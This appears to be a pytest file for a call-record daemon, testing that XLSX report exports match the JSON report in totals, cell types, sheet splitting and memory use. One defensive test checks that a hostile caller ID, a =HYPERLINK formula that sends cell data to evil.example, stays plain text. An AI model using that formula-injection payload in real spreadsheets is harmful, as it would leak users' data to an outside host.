@@ -1,0 +1,282 @@
+"""Report exports as XLSX and PDF: opened with openpyxl and read with pypdf, checked against the JSON report.
+
+The calls go through the real journal writer into SQLite (`tests.test_reports`); the CLI runs as a user runs it,
+in a subprocess; memory is read from ``/proc``.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import pty
+import stat
+import subprocess
+import sys
+from datetime import datetime, timedelta
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from openpyxl.worksheet.worksheet import Worksheet
+
+from smdrd.reports.export import Section, write_export
+from smdrd.reports.export_xlsx import write_xlsx
+from smdrd.reports.queries import KINDS, Context, context_from, parse_query, run_report
+from smdrd.reports.render import to_dict
+from smdrd.store.sqlite.reports import SqliteReports
+from tests.test_reports import CALLS, DEPARTMENTS, Call, settings_for, write_calls
+from tests.test_reports_cli import HOSTILE, config_text
+
+MARCH = ("--from", "2026-03-01", "--to", "2026-03-31")
+#: where the table starts: a title, four header lines (period, time zone, filters, currency), a blank line.
+HEAD_ROW = 7
+
+
+@pytest.fixture
+async def db(tmp_path: Path) -> Path:
+    path = tmp_path / "smdrd.db"
+    await write_calls(path, CALLS)
+    return path
+
+
+def context(db: Path) -> Context:
+    return context_from(settings_for(db, DEPARTMENTS))
+
+
+def export(db: Path, kind: str, fmt: str, **params: str) -> tuple[bytes, dict[str, Any]]:
+    """The export of ``kind`` over March as bytes, and the JSON report of the same query (every call)."""
+    ctx = context(db)
+    query = parse_query({"kind": [kind], "from": ["2026-03-01"], "to": ["2026-03-31"], "page_size": ["0"],
+                         **{k: [v] for k, v in params.items()}}, ctx)
+    reader = SqliteReports(str(db))
+    try:
+        out = io.BytesIO()
+        write_export(reader, query, ctx, fmt, out, every=True)
+        expected = to_dict(run_report(reader, query, ctx))
+    finally:
+        reader.close()
+    return out.getvalue(), json.loads(json.dumps(expected))
+
+
+def sheet_rows(ws: Worksheet) -> list[list[Any]]:
+    return [[c.value for c in row] for row in ws.iter_rows()]
+
+
+def table_of(ws: Worksheet) -> tuple[list[str], list[list[Any]], list[Any]]:
+    """The heading, the rows and the totals row of a sheet."""
+    rows = sheet_rows(ws)
+    total = next(i for i, r in enumerate(rows) if r[0] == "Total")
+    return rows[HEAD_ROW - 1], rows[HEAD_ROW:total], rows[total]
+
+
+def as_json_value(value: Any, kind: str) -> Any:
+    """A typed cell as the JSON report has it: seconds for a duration, a decimal string for money."""
+    if kind in ("seconds", "average") and isinstance(value, timedelta):
+        seconds = Decimal(str(value.total_seconds()))
+        return int(seconds) if kind == "seconds" else float(seconds.quantize(Decimal("0.1")))
+    if kind == "money" and isinstance(value, int | float):
+        return str(Decimal(str(value)).quantize(Decimal("0.01")))
+    if kind == "minutes" and isinstance(value, int | float):
+        return float(value)
+    return value
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_xlsx_totals_row_equals_the_json_report_to_the_cent(db: Path, kind: str) -> None:
+    """Every kind: the bold Total row holds the JSON totals, typed (a duration, money to the cent)."""
+    data, expected = export(db, kind, "xlsx")
+    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    head, rows, totals = table_of(ws)
+    columns = expected["columns"]
+    assert head == [c["title"].removesuffix(" (s)") for c in columns]
+    assert len(rows) == len(expected["rows"])
+    for i, column in enumerate(columns[1:], start=1):
+        want = expected["totals"].get(column["key"])
+        assert as_json_value(totals[i], column["kind"]) == want, (kind, column)
+    for row, want_row in zip(rows, expected["rows"], strict=True):
+        for i, column in enumerate(columns):
+            if column["key"] not in ("start", "day"):
+                assert as_json_value(row[i], column["kind"]) == want_row[column["key"]], (kind, column)
+
+
+def test_xlsx_header_block_names_the_title_period_filters_and_time_zone(db: Path) -> None:
+    data, _ = export(db, "extensions", "xlsx", department="Sales")
+    rows = sheet_rows(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0])
+    assert rows[0][0] == "Calls per extension"
+    header = {r[0]: r[1] for r in rows[1:5]}
+    assert header == {"Period": "2026-03-01 to 2026-03-31 (both included)", "Time zone": "Europe/Warsaw",
+                      "Filters": "Department: Sales; Direction: outbound", "Currency": "EUR"}
+
+
+def test_xlsx_cells_are_typed_numbers_durations_money_and_text(db: Path) -> None:
+    """Counts are numbers, durations [h]:mm:ss, money has its currency format, extensions and numbers are text
+    (a leading 0 survives), a call's time is a date and time."""
+    data, _ = export(db, "calls", "xlsx")
+    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    first = next(ws.iter_rows(min_row=HEAD_ROW + 1, max_row=HEAD_ROW + 1))
+    start, ext, _dep, number, _dir, _cls, trunk, duration, cost, leg = first
+    assert start.value == datetime(2026, 3, 2, 10, 15) and start.number_format == "yyyy-mm-dd hh:mm:ss"
+    assert (ext.value, ext.data_type, ext.number_format) == ("201", "s", "@")
+    assert (number.value, number.data_type) == ("0221234567", "s")
+    assert trunk.value == "T1" and trunk.data_type == "s"
+    assert duration.value == timedelta(seconds=120) and duration.number_format == "[h]:mm:ss"
+    assert cost.value == 0.5 and cost.number_format == '#,##0.00 "EUR"' and cost.data_type == "n"
+    assert leg.value == 0 and leg.data_type == "n"
+    data, _ = export(db, "days", "xlsx")
+    day = next(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=HEAD_ROW + 1))[0]
+    assert day.value == datetime(2026, 3, 1) and day.number_format == "yyyy-mm-dd"
+
+
+def test_xlsx_calls_lists_legs_and_calls_under_the_totals(db: Path) -> None:
+    """The calls listing's totals have no column for calls and legs: they follow the Total row."""
+    data, expected = export(db, "calls", "xlsx")
+    rows = sheet_rows(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0])
+    total = next(i for i, r in enumerate(rows) if r[0] == "Total")
+    after = {r[0]: r[1] for r in rows[total + 1:]}
+    assert after["Calls"] == expected["totals"]["calls"] == 8
+    assert after["Legs"] == expected["totals"]["legs"] == 9
+
+
+async def test_xlsx_text_from_the_pbx_is_never_a_formula(tmp_path: Path) -> None:
+    """A caller ID =HYPERLINK(...) is a text cell showing exactly what the PBX sent, never a formula."""
+    db = tmp_path / "hostile.db"
+    await write_calls(db, HOSTILE)
+    data, _ = export(db, "calls", "xlsx")
+    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert {"=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+442071234567"} <= texts
+
+
+def test_xlsx_has_a_sheet_per_section_and_goes_on_past_a_full_sheet(db: Path, tmp_path: Path) -> None:
+    """Sections become sheets (with valid names); a section longer than a sheet continues on the next sheet,
+    and its totals close the last one."""
+    ctx = context(db)
+    reader = SqliteReports(str(db))
+    try:
+        report = run_report(reader, parse_query({"kind": ["extensions"], "from": ["2026-03"], "to": ["2026-03"]},
+                                                ctx), ctx)
+    finally:
+        reader.close()
+    rows = report.rows
+    sections = [Section("Sales: [north]", rows[:2], {"calls": 3}), Section("Everything else", rows[2:], None)]
+    path = tmp_path / "s.xlsx"
+    write_xlsx(str(path), report, sections, max_rows=HEAD_ROW + 3)
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["Sales   north", "Everything else", "Everything else (2)", "Everything else (3)"]
+    first = sheet_rows(wb["Sales   north"])
+    assert [r[0] for r in first[HEAD_ROW:]] == ["201", "205", "Total"] and first[-1][2] == 3
+    continued = [r[0] for name in wb.sheetnames[1:] for r in sheet_rows(wb[name])[HEAD_ROW:]]
+    assert continued == [r["extension"] for r in rows[2:]]
+    assert sheet_rows(wb["Everything else (2)"])[0][0] == "Calls per extension"
+
+
+def _report(config: Path, *args: str, stdout: Any = subprocess.PIPE) -> subprocess.CompletedProcess[bytes]:
+    return subprocess.run([sys.executable, "-m", "smdrd", "report", *args, "--config", str(config)],
+                          stdout=stdout, stderr=subprocess.PIPE, timeout=120, check=False)
+
+
+@pytest.fixture
+def config(db: Path, tmp_path: Path) -> Path:
+    path = tmp_path / "smdrd.toml"
+    path.write_text(config_text(db))
+    return path
+
+
+def test_cli_writes_xlsx_to_a_private_file(config: Path, tmp_path: Path) -> None:
+    """``smdrd report departments --format xlsx --output FILE``: a 0600 workbook whose totals are the JSON's."""
+    out = tmp_path / "departments.xlsx"
+    result = _report(config, "departments", *MARCH, "--format", "xlsx", "--output", str(out))
+    assert result.returncode == 0, result.stderr
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    _head, _rows, totals = table_of(openpyxl.load_workbook(out).worksheets[0])
+    assert totals[2] == 8 and totals[3] == timedelta(seconds=1600) and str(totals[5]) == "8.35"
+
+
+def test_cli_writes_xlsx_to_a_pipe(config: Path) -> None:
+    result = _report(config, "calls", *MARCH, "--format", "xlsx")
+    assert result.returncode == 0, result.stderr
+    ws = openpyxl.load_workbook(io.BytesIO(result.stdout)).worksheets[0]
+    assert ws["A1"].value == "Call details"
+
+
+@pytest.mark.parametrize("fmt", ["xlsx"])
+def test_cli_refuses_to_write_a_binary_file_to_a_terminal(config: Path, fmt: str) -> None:
+    """Without --output, a terminal gets a one-line error and exit 2, not a screenful of bytes."""
+    master, slave = pty.openpty()
+    try:
+        result = _report(config, "days", *MARCH, "--format", fmt, stdout=slave)
+    finally:
+        os.close(slave)
+        os.close(master)
+    assert result.returncode == 2
+    assert b"binary file: give --output FILE" in result.stderr
+
+
+def _calls_over_a_year(n: int) -> list[Call]:
+    start = datetime(2025, 1, 1, 8, 0)
+    step = timedelta(days=364) / n
+    return [Call((start + step * i).isoformat(timespec="seconds"), str(200 + i % 150), "outbound", "national",
+                 30 + i % 600, f"{(i % 97) / 100:.2f}", number=f"0{221234567 + i}") for i in range(n)]
+
+
+#: run in a child process: one warm-up export of a day, then the year, each to a file; the peak memory (VmHWM,
+#: reset through clear_refs after the warm-up) over the resident memory before the year's export, in kB.
+_MEASURE = """
+import re, sys
+from smdrd import cli
+
+def status(key):
+    return int(re.search(key + r":\\s+(\\d+) kB", open("/proc/self/status").read()).group(1))
+
+def report(day_to, out):
+    args = ["report", "calls", "--from", "2025-01-01", "--to", day_to, "--config", sys.argv[1],
+            "--format", sys.argv[2], "--output", out]
+    assert cli.main(args) == 0
+
+report("2025-01-01", sys.argv[3] + ".warm")
+try:
+    open("/proc/self/clear_refs", "w").write("5")
+    before = status("VmRSS")
+except OSError:
+    before = status("VmHWM")
+report("2025-12-31", sys.argv[3])
+print(before, status("VmHWM"))
+"""
+
+
+YEAR_CALLS = 20_000
+
+
+@pytest.fixture
+async def year_config(tmp_path: Path) -> Path:
+    db = tmp_path / "year.db"
+    await write_calls(db, _calls_over_a_year(YEAR_CALLS))
+    config = tmp_path / "year.toml"
+    config.write_text(config_text(db))
+    return config
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("fmt", ["xlsx"])
+def test_a_year_of_calls_exports_in_bounded_memory(year_config: Path, tmp_path: Path, fmt: str) -> None:
+    """20,000 calls over a year export a row at a time: the process's peak memory grows by less than 8 MB
+    (holding the rows, dicts of about 1 kB each, would take 20 MB), and the file holds every call and the
+    totals."""
+    n = YEAR_CALLS
+    out = tmp_path / f"year.{fmt}"
+    result = subprocess.run([sys.executable, "-c", _MEASURE, str(year_config), fmt, str(out)], capture_output=True,
+                            text=True, timeout=600, check=False)
+    assert result.returncode == 0, result.stderr
+    before, peak = map(int, result.stdout.split())
+    growth_kb = peak - before
+    assert growth_kb < 8 * 1024, f"peak memory grew by {growth_kb} kB for {n} calls"
+    ws = openpyxl.load_workbook(out, read_only=True).worksheets[0]
+    rows = list(ws.iter_rows(min_row=HEAD_ROW + 1, values_only=True))
+    assert sum(1 for r in rows if isinstance(r[0], datetime)) == n
+    assert next(r for r in rows if r[0] == "Total")[7] == timedelta(seconds=sum(30 + i % 600 for i in range(n)))
+
